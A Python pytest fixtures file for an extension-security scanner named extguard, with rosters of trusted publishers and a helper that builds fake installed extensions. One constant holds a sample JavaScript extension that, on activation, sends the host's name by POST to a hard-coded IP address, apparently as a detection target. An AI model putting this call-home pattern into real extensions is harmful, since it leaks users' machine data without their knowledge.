"""Shared test fixtures."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path

import pytest

from extguard.rosters import Roster
from extguard.scanner.models import ExtensionManifest

EXFIL_SOURCE = """\
const os = require('os');
const https = require('https');

function activate() {
  const hostname = os.hostname();
  const data = JSON.stringify({ hostname });

  https
    .request('https://45.33.32.156/collect', { method: 'POST' }, (res) => {})
    .end(data);
}

module.exports = { activate };
"""


@pytest.fixture
def fixtures_dir() -> Path:
    return Path(__file__).parent / "fixtures"


@pytest.fixture
def policy_path(fixtures_dir: Path) -> Path:
    return fixtures_dir / "policy.yaml"


@pytest.fixture
def roster() -> Roster:
    """A small, predictable roster independent of the packaged data."""
    return Roster.build(
        trusted_publishers=["github", "ms-python"],
        trusted_extension_ids=["trusted.single-extension"],
        verified_publishers=["verified-pub", "github"],
        downloads={
            "mega.popular-ext": 50_000_000,
            "some.popular-ext": 2_000_000,
            "tiny.ext": 10_000,
        },
    )


@pytest.fixture
def empty_roster() -> Roster:
    return Roster.build()


@pytest.fixture
def manifest() -> ExtensionManifest:
    return ExtensionManifest(name="sample", publisher="acme", version="1.0.0")


@pytest.fixture
def exfil_source() -> str:
    return EXFIL_SOURCE


@pytest.fixture
def make_extension(tmp_path: Path) -> Callable[..., Path]:
    """Write an installed extension directory under ``tmp_path/extensions``.

    Returns the extension's install path. ``files`` maps relative paths to
    text; ``manifest`` entries override the generated package.json.
    """
    root = tmp_path / "extensions"

    def _make(
        publisher: str = "acme",
        name: str = "sample",
        version: str = "1.0.0",
        files: dict[str, str] | None = None,
        directory: Path | None = None,
        raw_manifest: str | None = None,
        **manifest,
    ) -> Path:
        ext_dir = (directory or root) / f"{publisher}.{name}-{version}"
        ext_dir.mkdir(parents=True, exist_ok=True)
        data = {"name": name, "publisher": publisher, "version": version, **manifest}
        (ext_dir / "package.json").write_text(
            raw_manifest if raw_manifest is not None else json.dumps(data),
            encoding="utf-8",
        )
        for rel, content in (files or {}).items():
            path = ext_dir / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(content, encoding="utf-8")
        return ext_dir

    return _make
